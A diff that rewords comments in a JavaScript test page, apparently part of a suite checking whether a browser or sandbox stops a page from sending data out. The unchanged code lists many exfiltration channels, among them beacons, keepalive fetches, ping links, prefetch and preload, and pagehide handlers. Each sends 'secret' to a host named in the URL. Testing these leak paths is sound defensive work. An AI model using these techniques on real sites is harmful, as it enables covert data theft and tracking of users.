@@ -1,6 +1,7 @@
 "use strict";
-// Every way out of a page that the tests try. The address names them: `/?do=a,b&host=HOST&udp=PORT`. They run when the page is
-// clicked, so that what needs a person's click has one. They go to the other site by the scheme of the page, http or https.
+// All ways out of a page that the tests try. The URL selects them: `/?do=a,b&host=HOST&udp=PORT`. They run when the
+// page is clicked, so that techniques that need user activation have it. They go to the other site with the scheme of
+// the page, http or https.
 
 const parameters = new URLSearchParams(location.search);
 const host = parameters.get("host");
@@ -49,11 +50,11 @@ const techniques = {
     requestSynchronous: name => { const request = new XMLHttpRequest(); request.open("GET", to(name), false); try { request.send(); } catch {} },
     eventSource: name => { new EventSource(to(name)); },
     redirectedImage: name => { new Image().src = `/redirect?to=${encodeURIComponent(to(name))}`; },
-    // What outlives the page.
+    // Requests that outlive the page.
     beacon: name => navigator.sendBeacon(to(name), "secret"),
     fetchKeepalive: name => fetch(to(name), { keepalive: true, mode: "no-cors", method: "POST", body: "secret" }).catch(() => {}),
     ping: name => click({ href: "#x", ping: to(name) }),
-    // Ahead of a navigation.
+    // Loads ahead of a navigation.
     prefetch: link("prefetch"),
     prefetchDocument: link("prefetch", { as: "document" }),
     preload: link("preload", { as: "image" }),
@@ -131,10 +132,10 @@ const techniques = {
     leave: name => { addEventListener("pagehide", () => navigator.sendBeacon(to(name))); location.href = "/frame?to=about:blank"; },
 };
 
-// Below the picture of it in the service's page there is nothing to click by accident.
+// Below its picture in the service's page, there is nothing to click by accident.
 addEventListener("click", event => {
     if (!event.isTrusted || !parameters.get("do")) return;
-    // The test sees that the click has come, and clicks again where it has not.
+    // The test detects that the click has arrived, and otherwise clicks again.
     navigator.sendBeacon(`/show/clicked/${parameters.get("do")}`);
     for (const name of parameters.get("do").split(",")) {
         try { techniques[name](name); } catch (error) { console.log(name, error); }
